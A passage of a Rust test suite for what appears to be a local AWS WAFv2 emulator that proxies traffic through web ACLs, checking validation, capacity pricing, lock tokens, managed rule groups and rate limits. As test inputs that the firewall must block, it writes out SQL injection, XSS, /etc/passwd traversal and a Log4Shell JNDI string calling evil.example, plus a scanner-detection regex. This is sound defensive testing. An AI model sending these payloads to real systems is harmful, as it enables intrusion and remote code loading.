//! WAFv2 through aws-sdk-wafv2: IP sets, regex pattern sets, rule groups and web ACLs, checked as
//! AWS checks them when written, priced in capacity units and guarded by lock tokens.

use aws_sdk_wafv2::error::ProvideErrorMetadata;
use aws_sdk_wafv2::primitives::Blob;
use aws_sdk_wafv2::types::{
    AllowAction, BlockAction, ByteMatchStatement, CountAction, CustomResponse, CustomResponseBody, DefaultAction,
    FieldToMatch, IpAddressVersion, IpSetReferenceStatement, Label, OverrideAction, PositionalConstraint,
    Regex as WafRegex, RegexPatternSetReferenceStatement, ResponseContentType, Rule, RuleAction,
    RuleGroupReferenceStatement, Scope, Statement, Tag, TextTransformation, TextTransformationType, UriPath,
    VisibilityConfig,
};
use rampart_testkit::{ACCOUNT_ID, TestServer};

pub(crate) fn waf(server: &TestServer) -> aws_sdk_wafv2::Client {
    waf_as(server, (&server.access_key_id, &server.secret_access_key, None))
}

/// A WAFv2 client with these credentials (key id, secret, session token).
pub(crate) fn waf_as(server: &TestServer, (id, secret, token): (&str, &str, Option<&str>)) -> aws_sdk_wafv2::Client {
    let conf = aws_sdk_wafv2::Config::builder()
        .behavior_version(aws_sdk_wafv2::config::BehaviorVersion::latest())
        .region(aws_sdk_wafv2::config::Region::new("us-east-1"))
        .endpoint_url(&server.endpoint)
        .credentials_provider(aws_sdk_wafv2::config::Credentials::new(
            id,
            secret,
            token.map(str::to_owned),
            None,
            "test",
        ))
        .retry_config(aws_sdk_wafv2::config::retry::RetryConfig::disabled())
        .build();
    aws_sdk_wafv2::Client::from_conf(conf)
}

/// A proxy listener on an ephemeral loopback port, forwarding to `upstream`, decided by the web
/// ACL of that name (once it exists).
pub(crate) fn proxy_to(
    upstream: std::net::SocketAddr,
    name: &str,
    web_acl: Option<&str>,
) -> rampart_server::ProxyConfig {
    rampart_server::ProxyConfig {
        name: name.into(),
        listen: "127.0.0.1:0".parse().unwrap(),
        upstream: format!("http://{upstream}"),
        web_acl: web_acl.map(str::to_owned),
    }
}

/// A server with one proxy listener, `name`, in front of a trivial upstream of its own and decided
/// by the web ACL named `web_acl` (once it exists); with that listener.
pub(crate) async fn proxied(name: &str, web_acl: &str) -> (TestServer, rampart_server::ProxyListener) {
    let upstream = rampart_testkit::upstream::start().await.unwrap();
    let server = TestServer::start_with(|c| c.proxy = vec![proxy_to(upstream, name, Some(web_acl))]).await.unwrap();
    let proxy = server.running.as_ref().unwrap().proxies[0].clone();
    (server, proxy)
}

pub(crate) fn code<T, E: ProvideErrorMetadata, R>(r: Result<T, aws_sdk_wafv2::error::SdkError<E, R>>) -> String {
    match r {
        Ok(_) => "OK".to_owned(),
        Err(e) => e.as_service_error().and_then(|s| s.code()).unwrap_or("NotAServiceError").to_owned(),
    }
}

pub(crate) fn visibility(name: &str) -> VisibilityConfig {
    VisibilityConfig::builder()
        .sampled_requests_enabled(true)
        .cloud_watch_metrics_enabled(true)
        .metric_name(name)
        .build()
        .unwrap()
}

fn transform(priority: i32, kind: TextTransformationType) -> TextTransformation {
    TextTransformation::builder().priority(priority).r#type(kind).build().unwrap()
}

pub(crate) fn uri_contains(word: &str) -> Statement {
    let m = ByteMatchStatement::builder()
        .search_string(Blob::new(word.as_bytes()))
        .field_to_match(FieldToMatch::builder().uri_path(UriPath::builder().build()).build())
        .text_transformations(transform(0, TextTransformationType::UrlDecode))
        .text_transformations(transform(1, TextTransformationType::Lowercase))
        .positional_constraint(PositionalConstraint::Contains)
        .build()
        .unwrap();
    Statement::builder().byte_match_statement(m).build()
}

/// A rate-based statement: at most `limit` requests a minute per client address, of those
/// `scope_down` matches (all without one).
/// Sends fifteen GETs through `addr`, whose web ACL limits each address to ten (the last five
/// are refused), then waits until `keys` reports this client held.
async fn flood_until_held<F, Fut, E>(
    client: &hyper_util::client::legacy::Client<
        hyper_util::client::legacy::connect::HttpConnector,
        http_body_util::Full<bytes::Bytes>,
    >,
    addr: std::net::SocketAddr,
    keys: F,
) where
    F: Fn() -> Fut,
    Fut: std::future::Future<
            Output = Result<
                aws_sdk_wafv2::operation::get_rate_based_statement_managed_keys::GetRateBasedStatementManagedKeysOutput,
                E,
            >,
        >,
    E: std::fmt::Debug,
{
    let mut statuses = Vec::new();
    for _ in 0..15 {
        statuses.push(send(client, "GET", &format!("http://{addr}/"), &[], "").await.status);
    }
    assert_eq!(statuses.iter().filter(|s| **s == 403).count(), 5, "{statuses:?}");
    let start = std::time::Instant::now();
    loop {
        let held = keys().await.unwrap();
        if held.managed_keys_ipv4().unwrap().addresses() == ["127.0.0.1/32"] {
            break;
        }
        assert!(start.elapsed() < std::time::Duration::from_secs(10), "{held:?}");
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
}

/// Creates a REGIONAL web ACL that allows by default and blocks any request whose path holds
/// `admin`; its summary.
pub(crate) async fn web_acl_blocking_admin(server: &TestServer, name: &str) -> aws_sdk_wafv2::types::WebAclSummary {
    waf(server)
        .create_web_acl()
        .name(name)
        .scope(Scope::Regional)
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .rules(rule(
            "admin",
            0,
            uri_contains("admin"),
            RuleAction::builder().block(BlockAction::builder().build()).build(),
        ))
        .visibility_config(visibility(name))
        .send()
        .await
        .unwrap()
        .summary
        .unwrap()
}

pub(crate) fn per_ip_limit(limit: i64, scope_down: Option<Statement>) -> Statement {
    let rate = aws_sdk_wafv2::types::RateBasedStatement::builder()
        .limit(limit)
        .evaluation_window_sec(60)
        .aggregate_key_type(aws_sdk_wafv2::types::RateBasedStatementAggregateKeyType::Ip)
        .set_scope_down_statement(scope_down.map(Box::new))
        .build()
        .unwrap();
    Statement::builder().rate_based_statement(rate).build()
}

pub(crate) fn rule(name: &str, priority: i32, statement: Statement, action: RuleAction) -> Rule {
    Rule::builder()
        .name(name)
        .priority(priority)
        .statement(statement)
        .action(action)
        .visibility_config(visibility(name))
        .build()
        .unwrap()
}

#[tokio::test]
async fn web_acls_reference_sets_and_groups_priced_and_guarded_by_lock_tokens() {
    let server = TestServer::start().await.unwrap();
    let c = waf(&server);

    // An IP set: CIDR blocks of its version, a unique name, a lock token per change.
    let ip_set = |name: &str, addresses: &[&str]| {
        let mut b = c.create_ip_set().name(name).scope(Scope::Regional).ip_address_version(IpAddressVersion::Ipv4);
        for a in addresses {
            b = b.addresses(*a);
        }
        b.send()
    };
    let blocked = ip_set("blocked", &["192.0.2.0/24"]).await.unwrap();
    let blocked = blocked.summary().unwrap().clone();
    let (set_id, set_arn) = (blocked.id().unwrap().to_owned(), blocked.arn().unwrap().to_owned());
    assert_eq!(set_arn, format!("arn:aws:wafv2:us-east-1:{ACCOUNT_ID}:regional/ipset/blocked/{set_id}"));
    assert_eq!(code(ip_set("blocked", &["10.0.0.0/8"]).await), "WAFDuplicateItemException");
    assert_eq!(code(ip_set("bad", &["10.0.0.1"]).await), "WAFInvalidParameterException");
    assert_eq!(code(ip_set("v6", &["2001:db8::/32"]).await), "WAFInvalidParameterException");
    let got = c.get_ip_set().name("blocked").scope(Scope::Regional).id(&set_id).send().await.unwrap();
    assert_eq!(got.ip_set().unwrap().addresses(), ["192.0.2.0/24"]);
    let token = got.lock_token().unwrap().to_owned();
    let update = |token: &str| {
        c.update_ip_set()
            .name("blocked")
            .scope(Scope::Regional)
            .id(&set_id)
            .addresses("192.0.2.0/24")
            .addresses("198.51.100.7/32")
            .lock_token(token)
            .send()
    };
    let next = update(&token).await.unwrap().next_lock_token().unwrap().to_owned();
    assert_ne!(next, token);
    assert_eq!(code(update(&token).await), "WAFOptimisticLockException", "the old token is spent");
    let wrong_id = c.get_ip_set().name("other").scope(Scope::Regional).id(&set_id).send().await;
    assert_eq!(code(wrong_id), "WAFNonexistentItemException", "name and id must both match");

    // A regex pattern set: linear-time patterns only.
    let patterns = |name: &str, pattern: &str| {
        c.create_regex_pattern_set()
            .name(name)
            .scope(Scope::Regional)
            .regular_expression_list(WafRegex::builder().regex_string(pattern).build())
            .send()
    };
    assert_eq!(code(patterns("backref", r"(a+)\1").await), "WAFInvalidParameterException");
    let scanners = patterns("scanners", "(?i)(sqlmap|nikto)").await.unwrap();
    let scanners_arn = scanners.summary().unwrap().arn().unwrap().to_owned();

    // A rule group of fixed capacity, whose rules label what they match.
    let labelled = Rule::builder()
        .name("scanner")
        .priority(0)
        .statement(
            Statement::builder()
                .regex_pattern_set_reference_statement(
                    RegexPatternSetReferenceStatement::builder()
                        .arn(&scanners_arn)
                        .field_to_match(
                            FieldToMatch::builder()
                                .single_header(
                                    aws_sdk_wafv2::types::SingleHeader::builder().name("user-agent").build().unwrap(),
                                )
                                .build(),
                        )
                        .text_transformations(transform(0, TextTransformationType::None))
                        .build()
                        .unwrap(),
                )
                .build(),
        )
        .action(RuleAction::builder().count(CountAction::builder().build()).build())
        .rule_labels(Label::builder().name("scanner:seen").build().unwrap())
        .visibility_config(visibility("scanner"))
        .build()
        .unwrap();
    let group = |capacity: i64| {
        c.create_rule_group()
            .name("bots")
            .scope(Scope::Regional)
            .capacity(capacity)
            .rules(labelled.clone())
            .visibility_config(visibility("bots"))
            .send()
    };
    assert_eq!(code(group(10).await), "WAFLimitsExceededException", "the pattern set alone costs 25");
    let bots = group(50).await.unwrap().summary().unwrap().clone();
    let got = c.get_rule_group().arn(bots.arn().unwrap()).send().await.unwrap();
    let got = got.rule_group().unwrap();
    assert_eq!(got.capacity(), 50);
    let namespace = format!("awswaf:{ACCOUNT_ID}:rulegroup:bots:");
    assert_eq!(got.label_namespace(), Some(namespace.as_str()));
    assert_eq!(got.available_labels()[0].name(), Some(format!("{namespace}scanner:seen").as_str()));

    // A web ACL: the IP set blocks, an admin path gets a custom 403 page, the group runs in place.
    let by_ip = Statement::builder()
        .ip_set_reference_statement(IpSetReferenceStatement::builder().arn(&set_arn).build().unwrap())
        .build();
    let custom = BlockAction::builder()
        .custom_response(
            CustomResponse::builder().response_code(403).custom_response_body_key("denied").build().unwrap(),
        )
        .build();
    let group_rule = Rule::builder()
        .name("bots")
        .priority(5)
        .statement(
            Statement::builder()
                .rule_group_reference_statement(
                    RuleGroupReferenceStatement::builder().arn(bots.arn().unwrap()).build().unwrap(),
                )
                .build(),
        )
        .override_action(OverrideAction::builder().none(aws_sdk_wafv2::types::NoneAction::builder().build()).build())
        .visibility_config(visibility("bots"))
        .build()
        .unwrap();
    let rules = vec![
        rule("ips", 1, by_ip.clone(), RuleAction::builder().block(BlockAction::builder().build()).build()),
        rule("admin", 2, uri_contains("admin"), RuleAction::builder().block(custom).build()),
        group_rule.clone(),
    ];
    // 1 (IP set) + 10 + 2 × 10 (CONTAINS, two transformations) + 50 (the group's capacity).
    let capacity = c.check_capacity().scope(Scope::Regional).set_rules(Some(rules.clone())).send().await.unwrap();
    assert_eq!(capacity.capacity(), 81);
    let body =
        CustomResponseBody::builder().content_type(ResponseContentType::TextPlain).content("no").build().unwrap();
    let create = |rules: Vec<Rule>, with_body: bool| {
        let mut b = c
            .create_web_acl()
            .name("front")
            .scope(Scope::Regional)
            .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
            .set_rules(Some(rules))
            .visibility_config(visibility("front"))
            .tags(Tag::builder().key("team").value("edge").build().unwrap());
        if with_body {
            b = b.custom_response_bodies("denied", body.clone());
        }
        b.send()
    };
    assert_eq!(code(create(rules.clone(), false).await), "WAFInvalidParameterException", "the body must exist");
    let same_priority = vec![
        rules[0].clone(),
        rule("dup", 1, uri_contains("x"), RuleAction::builder().count(CountAction::builder().build()).build()),
    ];
    assert_eq!(code(create(same_priority, true).await), "WAFInvalidParameterException");
    let group_with_action = vec![
        Rule::builder()
            .name("bots")
            .priority(5)
            .set_statement(group_rule.statement().cloned())
            .action(RuleAction::builder().block(BlockAction::builder().build()).build())
            .visibility_config(visibility("bots"))
            .build()
            .unwrap(),
    ];
    assert_eq!(code(create(group_with_action, true).await), "WAFInvalidParameterException");
    let front = create(rules, true).await.unwrap().summary().unwrap().clone();
    let got = c.get_web_acl().name("front").scope(Scope::Regional).id(front.id().unwrap()).send().await.unwrap();
    let acl = got.web_acl().unwrap();
    assert_eq!(acl.capacity(), 81);
    assert_eq!(acl.label_namespace(), Some(format!("awswaf:{ACCOUNT_ID}:webacl:front:").as_str()));
    let admin = acl.rules().iter().find(|r| r.name() == "admin").unwrap();
    let search = admin.statement().unwrap().byte_match_statement().unwrap().search_string();
    assert_eq!(search.as_ref(), b"admin", "the search string comes back as written");
    let listed = c.list_web_acls().scope(Scope::Regional).send().await.unwrap();
    assert_eq!(listed.web_acls().len(), 1);

    // Referenced sets and groups cannot go while the web ACL uses them.
    let current = c.get_ip_set().name("blocked").scope(Scope::Regional).id(&set_id).send().await.unwrap();
    let delete_set =
        |token: &str| c.delete_ip_set().name("blocked").scope(Scope::Regional).id(&set_id).lock_token(token).send();
    assert_eq!(code(delete_set(current.lock_token().unwrap()).await), "WAFAssociatedItemException");

    // Tags by ARN.
    let tags = c.list_tags_for_resource().resource_arn(front.arn().unwrap()).send().await.unwrap();
    assert_eq!(tags.tag_info_for_resource().unwrap().tag_list()[0].key(), "team");
    c.untag_resource().resource_arn(front.arn().unwrap()).tag_keys("team").send().await.unwrap();
    let tags = c.list_tags_for_resource().resource_arn(front.arn().unwrap()).send().await.unwrap();
    assert!(tags.tag_info_for_resource().unwrap().tag_list().is_empty());

    // CloudFront's scope is served in us-east-1 only.
    let eu = aws_sdk_wafv2::Client::from_conf(
        c.config().to_builder().region(aws_sdk_wafv2::config::Region::new("eu-west-1")).build(),
    );
    assert_eq!(code(eu.list_web_acls().scope(Scope::Cloudfront).send().await), "WAFInvalidParameterException");
    assert_eq!(code(c.list_web_acls().scope(Scope::Cloudfront).send().await), "OK");

    // Once the web ACL is gone, so can the set be.
    let stale = c
        .delete_web_acl()
        .name("front")
        .scope(Scope::Regional)
        .id(front.id().unwrap())
        .lock_token("00000000-0000-4000-8000-000000000000")
        .send();
    assert_eq!(code(stale.await), "WAFOptimisticLockException");
    c.delete_web_acl()
        .name("front")
        .scope(Scope::Regional)
        .id(front.id().unwrap())
        .lock_token(got.lock_token().unwrap())
        .send()
        .await
        .unwrap();
    delete_set(current.lock_token().unwrap()).await.unwrap();
    assert!(c.list_ip_sets().scope(Scope::Regional).send().await.unwrap().ip_sets().is_empty());
    // And the group, and then its pattern set.
    let group = c.get_rule_group().arn(bots.arn().unwrap()).send().await.unwrap();
    c.delete_rule_group()
        .name("bots")
        .scope(Scope::Regional)
        .id(bots.id().unwrap())
        .lock_token(group.lock_token().unwrap())
        .send()
        .await
        .unwrap();
    let set = scanners.summary().unwrap();
    let set_token =
        c.get_regex_pattern_set().name("scanners").scope(Scope::Regional).id(set.id().unwrap()).send().await;
    c.delete_regex_pattern_set()
        .name("scanners")
        .scope(Scope::Regional)
        .id(set.id().unwrap())
        .lock_token(set_token.unwrap().lock_token().unwrap())
        .send()
        .await
        .unwrap();
}

/// A request through the proxy: status, body, and the `x-amzn-waf-` and content-type headers.
pub(crate) struct Answer {
    pub(crate) status: u16,
    pub(crate) body: String,
    pub(crate) headers: http::HeaderMap,
}

pub(crate) async fn send(
    client: &hyper_util::client::legacy::Client<
        hyper_util::client::legacy::connect::HttpConnector,
        http_body_util::Full<bytes::Bytes>,
    >,
    method: &str,
    url: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Answer {
    use http_body_util::BodyExt;
    let mut req = http::Request::builder().method(method).uri(url);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let req = req.body(http_body_util::Full::new(bytes::Bytes::from(body.to_owned()))).unwrap();
    let response = client.request(req).await.unwrap();
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    let body = String::from_utf8_lossy(&response.into_body().collect().await.unwrap().to_bytes()).into_owned();
    Answer { status, body, headers }
}

#[tokio::test]
async fn the_proxy_decides_live_traffic_by_the_web_acl_and_its_changes() {
    let upstream = rampart_testkit::upstream::start().await.unwrap();
    let server = TestServer::start_with(|c| {
        c.proxy = vec![
            rampart_server::ProxyConfig {
                name: "shop".into(),
                listen: "127.0.0.1:0".parse().unwrap(),
                upstream: format!("http://{upstream}"),
                web_acl: Some("front".into()),
            },
            rampart_server::ProxyConfig {
                name: "dead".into(),
                listen: "127.0.0.1:0".parse().unwrap(),
                upstream: "http://127.0.0.1:1".into(),
                web_acl: None,
            },
        ];
    })
    .await
    .unwrap();
    // Without a metrics token configured, the metrics are not served at all.
    let http = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    let metrics = send(&http, "GET", &format!("{}/_rampart/metrics", server.endpoint), &[], "").await;
    assert_eq!(metrics.status, 404);
    let running = server.running.as_ref().unwrap();
    let (shop, dead) = (&running.proxies[0], &running.proxies[1]);
    let url = |path: &str| format!("http://{}{path}", shop.addr);
    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    let c = waf(&server);

    // The web ACL the proxy names does not exist yet: nothing passes unprotected.
    assert_eq!(send(&client, "GET", &url("/"), &[], "").await.status, 503);
    // A proxy without a web ACL forwards; its upstream being down is a bad gateway.
    assert_eq!(send(&client, "GET", &format!("http://{}/", dead.addr), &[], "").await.status, 502);

    let ips = c
        .create_ip_set()
        .name("banned")
        .scope(Scope::Regional)
        .ip_address_version(IpAddressVersion::Ipv4)
        .addresses("192.0.2.0/24")
        .send()
        .await
        .unwrap();
    let ips = ips.summary().unwrap().clone();
    let sqli = Statement::builder()
        .sqli_match_statement(
            aws_sdk_wafv2::types::SqliMatchStatement::builder()
                .field_to_match(
                    FieldToMatch::builder()
                        .all_query_arguments(aws_sdk_wafv2::types::AllQueryArguments::builder().build())
                        .build(),
                )
                .text_transformations(transform(0, TextTransformationType::UrlDecode))
                .build()
                .unwrap(),
        )
        .build();
    let xss = Statement::builder()
        .xss_match_statement(
            aws_sdk_wafv2::types::XssMatchStatement::builder()
                .field_to_match(
                    FieldToMatch::builder()
                        .body(
                            aws_sdk_wafv2::types::Body::builder()
                                .oversize_handling(aws_sdk_wafv2::types::OversizeHandling::Continue)
                                .build(),
                        )
                        .build(),
                )
                .text_transformations(transform(0, TextTransformationType::UrlDecode))
                .text_transformations(transform(1, TextTransformationType::HtmlEntityDecode))
                .build()
                .unwrap(),
        )
        .build();
    let by_ip = Statement::builder()
        .ip_set_reference_statement(IpSetReferenceStatement::builder().arn(ips.arn().unwrap()).build().unwrap())
        .build();
    let marker = aws_sdk_wafv2::types::CustomRequestHandling::builder()
        .insert_headers(aws_sdk_wafv2::types::CustomHttpHeader::builder().name("seen").value("curl").build().unwrap())
        .build()
        .unwrap();
    let curl = Statement::builder()
        .byte_match_statement(
            ByteMatchStatement::builder()
                .search_string(Blob::new("curl/"))
                .field_to_match(
                    FieldToMatch::builder()
                        .single_header(
                            aws_sdk_wafv2::types::SingleHeader::builder().name("user-agent").build().unwrap(),
                        )
                        .build(),
                )
                .text_transformations(transform(0, TextTransformationType::Lowercase))
                .positional_constraint(PositionalConstraint::StartsWith)
                .build()
                .unwrap(),
        )
        .build();
    let custom = BlockAction::builder()
        .custom_response(
            CustomResponse::builder().response_code(403).custom_response_body_key("denied").build().unwrap(),
        )
        .build();
    let block = || RuleAction::builder().block(BlockAction::builder().build()).build();
    let front = c
        .create_web_acl()
        .name("front")
        .scope(Scope::Regional)
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .rules(rule("banned", 0, by_ip, block()))
        .rules(rule(
            "mark-curl",
            1,
            curl,
            RuleAction::builder().count(CountAction::builder().custom_request_handling(marker).build()).build(),
        ))
        .rules(rule("admin", 2, uri_contains("admin"), RuleAction::builder().block(custom).build()))
        .rules(rule("sqli", 3, sqli, block()))
        .rules(rule("xss", 4, xss, block()))
        .custom_response_bodies(
            "denied",
            CustomResponseBody::builder()
                .content_type(ResponseContentType::ApplicationJson)
                .content(r#"{"denied":true}"#)
                .build()
                .unwrap(),
        )
        .visibility_config(visibility("front"))
        .send()
        .await
        .unwrap();
    let front = front.summary().unwrap().clone();

    // Ordinary traffic reaches the upstream with what an ALB adds, and the Count rule's header.
    let ok = send(&client, "GET", &url("/products/42?color=blue"), &[("user-agent", "curl/8.5")], "").await;
    assert_eq!(ok.status, 200, "{}", ok.body);
    let seen: serde_json::Value = serde_json::from_str(&ok.body).unwrap();
    assert_eq!(seen["path"], "/products/42?color=blue");
    assert_eq!(seen["forwardedFor"], "127.0.0.1");
    assert_eq!(seen["forwardedPort"], shop.addr.port().to_string());
    assert_eq!(seen["forwardedProto"], "http");
    assert_eq!(seen["inserted"], "curl");
    // Attacks are answered by the web ACL and never reach the upstream.
    let attack = send(&client, "GET", &url("/item?id=1%27%20OR%20%271%27%3D%271"), &[], "").await;
    assert_eq!((attack.status, attack.body.as_str()), (403, "Forbidden"));
    let admin = send(&client, "GET", &url("/%41dmin/users"), &[], "").await;
    assert_eq!((admin.status, admin.body.as_str()), (403, r#"{"denied":true}"#));
    assert_eq!(admin.headers.get("content-type").unwrap(), "application/json");
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let xss_post = send(&client, "POST", &url("/comment"), &form, "text=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await;
    assert_eq!(xss_post.status, 403);
    let fine_post = send(&client, "POST", &url("/comment"), &form, "text=3+%3C+4+is+true").await;
    assert_eq!(fine_post.status, 200);
    let forwarded = send(&client, "GET", &url("/"), &[("x-forwarded-for", "198.51.100.4")], "").await;
    let seen: serde_json::Value = serde_json::from_str(&forwarded.body).unwrap();
    assert_eq!(seen["forwardedFor"], "198.51.100.4, 127.0.0.1", "the chain is kept and the client appended");

    // A change to a referenced IP set applies to the next request on the open connection.
    let got = c.get_ip_set().name("banned").scope(Scope::Regional).id(ips.id().unwrap()).send().await.unwrap();
    c.update_ip_set()
        .name("banned")
        .scope(Scope::Regional)
        .id(ips.id().unwrap())
        .addresses("127.0.0.0/8")
        .lock_token(got.lock_token().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(send(&client, "GET", &url("/products/42"), &[], "").await.status, 403);

    // An associated web ACL takes the named one's place, and cannot be deleted while it protects.
    let open = c
        .create_web_acl()
        .name("open")
        .scope(Scope::Regional)
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .visibility_config(visibility("open"))
        .send()
        .await
        .unwrap();
    let open = open.summary().unwrap().clone();
    c.associate_web_acl().web_acl_arn(open.arn().unwrap()).resource_arn(&shop.load_balancer_arn).send().await.unwrap();
    assert_eq!(send(&client, "GET", &url("/products/42"), &[], "").await.status, 200);
    let protecting = c.get_web_acl_for_resource().resource_arn(&shop.load_balancer_arn).send().await.unwrap();
    assert_eq!(protecting.web_acl().unwrap().name(), "open");
    let resources = c.list_resources_for_web_acl().web_acl_arn(open.arn().unwrap()).send().await.unwrap();
    assert_eq!(resources.resource_arns(), std::slice::from_ref(&shop.load_balancer_arn));
    let delete_open = c
        .delete_web_acl()
        .name("open")
        .scope(Scope::Regional)
        .id(open.id().unwrap())
        .lock_token(open.lock_token().unwrap());
    assert_eq!(code(delete_open.clone().send().await), "WAFAssociatedItemException");
    let unknown = c
        .associate_web_acl()
        .web_acl_arn(open.arn().unwrap())
        .resource_arn("arn:aws:elasticloadbalancing:us-east-1:123456789012:loadbalancer/app/nowhere/0123456789abcdef");
    assert_eq!(code(unknown.send().await), "WAFNonexistentItemException");
    c.disassociate_web_acl().resource_arn(&shop.load_balancer_arn).send().await.unwrap();
    assert_eq!(send(&client, "GET", &url("/products/42"), &[], "").await.status, 403, "back to the named web ACL");
    delete_open.send().await.unwrap();
    let _ = front;
}

#[tokio::test]
async fn awss_managed_rule_groups_protect_an_application_through_the_proxy() {
    let (server, shop) = proxied("shop", "managed").await;
    let c = waf(&server);
    let listed = c.list_available_managed_rule_groups().scope(Scope::Regional).send().await.unwrap();
    let names: Vec<&str> = listed.managed_rule_groups().iter().filter_map(|g| g.name()).collect();
    assert!(names.contains(&"AWSManagedRulesCommonRuleSet") && names.contains(&"AWSManagedRulesKnownBadInputsRuleSet"));
    let described = c
        .describe_managed_rule_group()
        .vendor_name("AWS")
        .name("AWSManagedRulesKnownBadInputsRuleSet")
        .scope(Scope::Regional)
        .send()
        .await
        .unwrap();
    assert_eq!(described.capacity(), Some(200));
    assert_eq!(described.label_namespace(), Some("awswaf:managed:aws:known-bad-inputs:"));
    assert!(described.rules().iter().any(|r| r.name() == Some("Log4JRCE_HEADER")));
    let missing = c.describe_managed_rule_group().vendor_name("AWS").name("AWSManagedRulesNope").scope(Scope::Regional);
    assert_eq!(code(missing.send().await), "WAFNonexistentItemException");

    let group = |name: &str, priority: i32| {
        let statement = aws_sdk_wafv2::types::ManagedRuleGroupStatement::builder().vendor_name("AWS").name(name);
        let statement = if name == "AWSManagedRulesCommonRuleSet" {
            // Uploads are large here: count instead of block, as AWS users override it.
            statement.rule_action_overrides(
                aws_sdk_wafv2::types::RuleActionOverride::builder()
                    .name("SizeRestrictions_BODY")
                    .action_to_use(RuleAction::builder().count(CountAction::builder().build()).build())
                    .build()
                    .unwrap(),
            )
        } else {
            statement
        };
        Rule::builder()
            .name(name)
            .priority(priority)
            .statement(Statement::builder().managed_rule_group_statement(statement.build().unwrap()).build())
            .override_action(
                OverrideAction::builder().none(aws_sdk_wafv2::types::NoneAction::builder().build()).build(),
            )
            .visibility_config(visibility(name))
            .build()
            .unwrap()
    };
    // A flood of logins is cut: at most 10 a minute per client.
    let logins = per_ip_limit(10, Some(uri_contains("/login")));
    let flood = rule("login-flood", 0, logins, RuleAction::builder().block(BlockAction::builder().build()).build());
    let rules = vec![
        flood,
        group("AWSManagedRulesCommonRuleSet", 1),
        group("AWSManagedRulesSQLiRuleSet", 2),
        group("AWSManagedRulesKnownBadInputsRuleSet", 3),
    ];
    let capacity = c.check_capacity().scope(Scope::Regional).set_rules(Some(rules.clone())).send().await.unwrap();
    // 1,100 for the three groups, 2 for the rate rule and 10 + 2 × 10 for its scope-down.
    assert_eq!(capacity.capacity(), 1132);
    c.create_web_acl()
        .name("managed")
        .scope(Scope::Regional)
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .set_rules(Some(rules))
        .visibility_config(visibility("managed"))
        .send()
        .await
        .unwrap();

    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    let url = |path: &str| format!("http://{}{path}", shop.addr);
    let browser = [("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")];
    assert_eq!(send(&client, "GET", &url("/products/42?color=blue"), &browser, "").await.status, 200);
    let big = "a".repeat(20_000);
    assert_eq!(send(&client, "POST", &url("/upload"), &browser, &big).await.status, 200, "the body rule only counts");
    for (path, headers, what) in [
        ("/", vec![], "no User-Agent"),
        ("/download?file=..%2F..%2Fetc%2Fpasswd", browser.to_vec(), "path traversal"),
        ("/item?id=1%27%20OR%20%271%27%3D%271", browser.to_vec(), "SQL injection"),
        ("/", vec![browser[0], ("x-api-version", "${jndi:ldap://evil.example/a}")], "Log4Shell"),
        ("/WEB-INF/web.xml", browser.to_vec(), "an exploitable path"),
    ] {
        assert_eq!(send(&client, "GET", &url(path), &headers, "").await.status, 403, "{what}");
    }
    for i in 0..10 {
        assert_eq!(send(&client, "POST", &url("/login"), &browser, "user=a").await.status, 200, "login {i}");
    }
    assert_eq!(send(&client, "POST", &url("/login"), &browser, "user=a").await.status, 403, "the eleventh login");
    assert_eq!(
        send(&client, "GET", &url("/products/42"), &browser, "").await.status,
        200,
        "other pages are not limited"
    );
}

/// A rate-based rule of a web ACL is one instance, whatever the web ACL protects: a flood split
/// between two load balancers it protects is counted once.
#[tokio::test(flavor = "multi_thread")]
async fn a_rate_rule_counts_across_every_load_balancer_its_web_acl_protects() {
    let upstream = rampart_testkit::upstream::start().await.unwrap();
    let server = TestServer::start_with(|c| {
        c.proxy = vec![proxy_to(upstream, "shop", Some("limited")), proxy_to(upstream, "api", Some("limited"))];
    })
    .await
    .unwrap();
    let proxies = server.running.as_ref().unwrap().proxies.clone();
    let logins = per_ip_limit(10, None);
    waf(&server)
        .create_web_acl()
        .name("limited")
        .scope(Scope::Regional)
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .rules(rule("flood", 0, logins, RuleAction::builder().block(BlockAction::builder().build()).build()))
        .visibility_config(visibility("limited"))
        .send()
        .await
        .unwrap();
    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    let get = |i: usize| {
        let url = format!("http://{}/products/{i}", proxies[i % 2].addr);
        let client = client.clone();
        async move { send(&client, "GET", &url, &[], "").await.status }
    };
    // Ten requests, five through each load balancer, are within the limit; the eleventh, through
    // either, is not.
    for i in 0..10 {
        assert_eq!(get(i).await, 200, "request {i}");
    }
    assert_eq!(get(10).await, 403, "the eleventh, counted with the other load balancer's");
    assert_eq!(get(11).await, 403);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_web_acls_decisions_are_sampled_logged_to_its_bucket_and_counted() {
    use aws_sdk_wafv2::types::{
        ActionCondition, ActionValue, Condition, Filter, FilterBehavior, FilterRequirement, LoggingConfiguration,
        LoggingFilter, SingleHeader, TimeWindow,
    };
    let upstream = rampart_testkit::upstream::start().await.unwrap();
    let logs = tempfile::tempdir().unwrap();
    let log_dir = logs.path().to_owned();
    let token_file = logs.path().join("metrics-token");
    std::fs::write(&token_file, "scrape-0123456789abcdef\n").unwrap();
    let server = TestServer::start_with(|c| {
        c.proxy = vec![proxy_to(upstream, "shop", Some("front"))];
        c.waf_log_delivery_secs = 1;
